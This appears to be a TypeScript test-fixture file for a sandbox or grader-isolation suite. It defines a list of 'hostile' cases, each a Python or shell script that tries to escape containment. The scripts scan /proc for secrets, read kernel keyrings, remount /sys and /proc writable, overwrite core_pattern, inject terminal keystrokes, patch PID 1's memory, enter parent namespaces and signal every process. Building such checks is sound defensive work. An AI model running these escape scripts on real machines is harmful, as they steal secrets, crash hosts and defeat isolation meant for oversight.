// A way out: to the machine's files, to the grader's secrets, to processes, devices and namespaces that are not the world's.

import { asServer, type Hostile } from "../hostile.ts";

// Looks through /proc for whoever is not of this world, and reads and writes by its root.
const look = `
import os, sys, time
def look(until):
    while time.time() < until:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for what in ("environ", "root@HOME@/secret", "root@TMP@/secret", "cwd/secret"):
                try:
                    text = open(f"/proc/{pid}/{what}", errors="replace").read()
                    if "secret-" in text: print(text, flush=True)
                except OSError: pass
            for folder in ("@HOME@", "@TMP@", "/tmp", "/"):
                try: open(f"/proc/{pid}/root{folder}/pwned-@ID@", "x") if int(pid) > 1 and os.stat(f"/proc/{pid}/root").st_ino != os.stat("/").st_ino else 0
                except (OSError, FileNotFoundError): pass
`;

const keyring = `
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
keyctl, add_key, request_key = (219, 217, 218) if platform.machine() == "aarch64" else (250, 248, 249)
buffer = ctypes.create_string_buffer(65536)
for ring in (-1, -2, -3, -4, -5):
    if libc.syscall(keyctl, 11, ring, buffer, 65536) > 0: print("read", ring, buffer.raw[:64].hex())
    found = libc.syscall(keyctl, 10, ring, b"user", b"hostile-canary", 0)
    if found > 0:
        length = libc.syscall(keyctl, 11, found, buffer, 65536)
        print("found", buffer.raw[:length].decode(), flush=True)
    if libc.syscall(add_key, b"user", b"pwned-@ID@", b"x", 1, ring) > 0: print("added", ring)
print("done")
`;

export const outside: Hostile[] = [
  {
    name: "looks-for-strangers-to-its-limit",
    ending: ".py",
    script: `${look}\nlook(time.time() + 60)`,
    ended: /more than/,
    isShort: true,
  },
  {
    name: "looks-for-strangers-as-leftover",
    ending: ".py",
    script: `${look}\nif os.fork() == 0: look(time.time() + 60)`,
  },
  {
    name: "looks-for-strangers-in-a-crowd",
    ending: ".py",
    script: `${look}\nfor i in range(80):\n    if os.fork() == 0: look(time.time() + 60)`,
  },
  {
    name: "looks-for-strangers-as-server",
    script: `RIGHT\n${asServer(`${look}\nlook(time.time() + 60)`)}`,
    score: 16,
    isShort: true,
  },
  { name: "reads-the-keyring", ending: ".py", script: keyring, says: /done/, hides: /found|added/, isShort: true },
  { name: "reads-the-keyring-as-server", script: asServer(keyring) },
  {
    name: "reads-by-handle",
    ending: ".py",
    script: `
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2) + bytes(120))
for path in ("/", "/usr", "/etc", "/dev"):
    fd = os.open(path, os.O_RDONLY)
    got = libc.open_by_handle_at(fd, handle, os.O_RDONLY)
    if got >= 0: print("opened", os.listdir(got))
print("done")`,
    says: /done/,
    hides: /opened/,
  },
  {
    name: "makes-devices",
    script: `for node in "b 8 0" "b 254 0" "c 1 1" "c 1 2" "c 10 229"; do
  for folder in /tmp /run /dev; do mknod $folder/made-$(echo $node | tr ' ' -) $node && head -c 16 $folder/made-* | xxd; done
done 2>&1
ls -l /dev`,
    hides: /^0000/m,
  },
  {
    name: "mounts-anew",
    script: `for type in cgroup cgroup2 debugfs tracefs securityfs bpf configfs devtmpfs ext4 overlay fuse; do
  mkdir -p /tmp/$type; mount -t $type $type /tmp/$type && { echo "mounted $type"; find /tmp/$type -maxdepth 2 -writable | grep -v "^/tmp/$type$" | head -3; }
done
for how in -C -UrmC; do unshare $how sh -c 'mkdir -p /tmp/own; mount -t cgroup2 none /tmp/own && find /tmp/own -type f -writable | head'; done
umount /sys; mount -o remount,bind,rw /sys; umount /sys/fs/cgroup/* /sys/fs/cgroup; find /sys/fs/cgroup -type f | head
for path in / /usr /etc /sys /proc; do mount -o remount,bind,rw $path; touch $path/pwned-@ID@ && echo "wrote $path"; done 2>/dev/null
umount -l /usr /etc /bin /run/bun 2>/dev/null; ls /usr/share/doc >/dev/null; true`,
    hides: /wrote \/(usr|sys|proc)|cgroup\.|procs/,
  },
  {
    name: "writes-the-kernels-settings",
    script: `for name in kernel/core_pattern kernel/modprobe kernel/hotplug vm/swappiness vm/drop_caches fs/file-max kernel/hostname/../panic; do
  echo '|/tmp/pwned-@ID@' > /proc/sys/$name && echo "wrote $name"
done
echo b > /proc/sysrq-trigger && echo "wrote sysrq"
for f in /sys/kernel/uevent_helper /sys/power/state /sys/kernel/mm/ksm/run; do echo 1 > $f && echo "wrote $f"; done
cat /proc/kcore /dev/mem /dev/kmsg /proc/kmsg 2>/dev/null | head -c 10 | grep -c . | sed s/^/kernel-memory:/`,
    hides: /wrote|kernel-memory:[1-9]/,
  },
  {
    name: "reaches-for-parents-namespaces",
    ending: ".py",
    script: `
import ctypes, fcntl, os
libc = ctypes.CDLL(None, use_errno=True)
NS_GET_USERNS, NS_GET_PARENT = 0xb701, 0xb702
for kind in ("user", "pid", "net", "mnt", "ipc", "uts", "cgroup"):
    fd = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
    for name in (NS_GET_USERNS, NS_GET_PARENT):
        try:
            parent = fcntl.ioctl(fd, name)
            own = os.fstat(parent).st_ino in (os.stat(f"/proc/self/ns/{k}").st_ino for k in ("user", "pid"))
            print("namespace", kind, hex(name), "own" if own else "STRANGE", libc.setns(parent, 0))
        except OSError as error: print("refused", kind, error.errno)
print("done")`,
    says: /done/,
    hides: /STRANGE/,
  },
  {
    name: "talks-to-the-machine",
    ending: ".py",
    script: `
import socket
for family, address in ((40, (2, 22)), (40, (1, 1)), (1, "\\0/tmp/dbus"), (1, "/run/dbus/system_bus_socket"), (1, "/run/docker.sock"), (2, ("127.0.0.1", 22))):
    try:
        s = socket.socket(family, 1); s.settimeout(0.3); s.connect(address); print("connected", family, address)
    except OSError as error: print("no", family, error)
print("done")`,
    says: /done/,
    hides: /^connected/m,
  },
  {
    name: "becomes-somebody-else",
    script: `setpriv --reuid=0 --regid=0 id; su -c id; sudo -n id; newgrp root </dev/null; setpriv --reuid=1000 id; unshare -Ur id
find / -xdev -perm -4000 -type f 2>/dev/null | head -5 | while read -r p; do "$p" --version </dev/null; done
cat /proc/self/status | grep -E 'NoNewPrivs|Seccomp:'; true`,
    says: /NoNewPrivs:\s+1/,
  },
  {
    name: "loads-code-into-the-kernel",
    script: `modprobe dummy && echo loaded; insmod /tmp/x.ko && echo loaded; swapon /tmp/x; reboot -f; kexec -e; hwclock -w && echo clock; date -s 2000-01-01 && echo clock; true`,
    hides: /^(loaded|clock)$/m,
  },
  {
    name: "writes-to-the-first-process",
    ending: ".py",
    script: `
import os, time
for fd in os.listdir("/proc/1/fd"):
    for mode in (os.O_WRONLY, os.O_RDONLY):
        try:
            got = os.open(f"/proc/1/fd/{fd}", mode | os.O_NONBLOCK)
            if mode == os.O_WRONLY: os.write(got, b"0\\nready\\ngo\\n")
        except OSError as error: pass
print("done", flush=True)
os._exit(3)`,
    says: /done/,
  },
  {
    name: "takes-over-the-first-process",
    ending: ".py",
    script: `
import os, time
ip = int(open("/proc/1/syscall").read().split()[-1], 16)
memory = open("/proc/1/mem", "r+b", buffering=0)
memory.seek(ip); memory.write(bytes.fromhex("ebfe"))  # x86-64: it runs in a circle, and minds neither its leash nor its children
os.system("(sleep 0.1 &)"); time.sleep(60)`,
    ended: /more than|world/,
    isShort: true,
  },
  {
    name: "goes-out-by-a-core-dump",
    script: `ulimit -c unlimited; cd /tmp; sh -c 'kill -SEGV $$'; sh -c 'kill -ABRT $$'; ls /tmp`,
    hides: /^core/m,
  },
  {
    name: "types-into-a-terminal",
    ending: ".py",
    script: `
import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        for byte in b"touch /tmp/pwned-@ID@\\n": fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        print("typed into", path)
    except OSError as error: print("no", path, error.errno)`,
    hides: /typed into/,
  },
  {
    name: "finds-the-machines-sockets",
    ending: ".py",
    script: `
import socket
names = ["\\0canary-@ID@"] + ["\\0" + line.split("@", 1)[1] for line in open("/proc/net/unix").read().split("\\n") if " @" in line]
for family, address in [(1, name) for name in names] + [(2, ("127.0.0.1", @PORT@)), (2, ("0.0.0.0", @PORT@))]:
    try:
        s = socket.socket(family, 1); s.settimeout(0.3); s.connect(address); print("connected", repr(address), s.recv(99))
    except OSError as error: print("no", repr(address), error)
print("done")`,
    says: /done/,
    hides: /^connected/m,
  },
  {
    name: "listens-to-the-machine",
    ending: ".py",
    script: `
import socket, struct, select, time
NETLINK_CONNECTOR, CN_IDX_PROC, NETLINK_KOBJECT_UEVENT, NETLINK_AUDIT = 11, 1, 15, 9
sockets = []
for protocol in range(0, 23):
    for groups in (0xffffffff, 1, 0):
        try:
            s = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, protocol); s.bind((0, groups))
            if protocol == NETLINK_CONNECTOR: s.send(struct.pack("=IHHII" + "IIIIHH" + "I", 40, 3, 0, 0, 0, CN_IDX_PROC, 1, 0, 0, 4, 0, 1))
            sockets.append((protocol, s)); break
        except OSError as error: print("no", protocol, error.errno)
end = time.time() + 1.5
while time.time() < end:
    ready, _, _ = select.select([s for _, s in sockets], [], [], 0.2)
    for protocol, s in sockets:
        if s in ready and protocol in (NETLINK_CONNECTOR, NETLINK_KOBJECT_UEVENT, NETLINK_AUDIT): print("heard", protocol, s.recv(9000)[:60].hex())
print("done")`,
    says: /done/,
    hides: /^heard (?!15 )/m,
  },
  {
    name: "signals-every-number",
    ending: ".py",
    script: `
import ctypes, os, signal, resource
libc = ctypes.CDLL(None, use_errno=True)
me, reached = os.getpid(), []
for pid in range(1, 70000):
    if pid == me: continue
    for act in (lambda: os.kill(pid, signal.SIGKILL), lambda: os.kill(-pid, signal.SIGSTOP) if pid != os.getpgrp() else None, lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0})):
        try: act(); reached.append(pid)
        except (OSError, OverflowError): pass
for who in (os.PRIO_USER, os.PRIO_PGRP):
    try: os.setpriority(who, 0, 19)
    except OSError: pass
print("reached", sorted(set(reached))[:20])`,
    says: /reached \[1(, 2)?(, \d)?\]|reached \[\]/,
  },
  {
    name: "registers-programs",
    script: `mkdir -p /tmp/b; mount -t binfmt_misc none /tmp/b && echo ':pwned-@ID@:E::sh::/bin/true:F' > /tmp/b/register
mount -t binfmt_misc none /proc/sys/fs/binfmt_misc; echo ':pwned-@ID@:M::\\x7fELF::/bin/true:' > /proc/sys/fs/binfmt_misc/register
for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/hostname /proc/sys/kernel/domainname /proc/sys/fs/pipe-max-size; do echo pwned > $f; done 2>/dev/null; hostname pwned; true`,
  },
  {
    name: "asks-for-rings",
    ending: ".py",
    script: `
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
for name, number in (("setup", 425), ("enter", 426), ("register", 427)):
    print(name, libc.syscall(number, 8, buffer, 0, 0, 0, 0), ctypes.get_errno())
libc.prctl(4, 0); libc.prctl(36, 1); libc.prctl(1, 0)  # not dumpable, a reaper, no signal at its parent's end
print("ptrace", libc.ptrace(16, 1, 0, 0), ctypes.get_errno())`,
    says: /setup -1 38\nenter -1 38\nregister -1 38\nptrace -1 1/,
  },
];
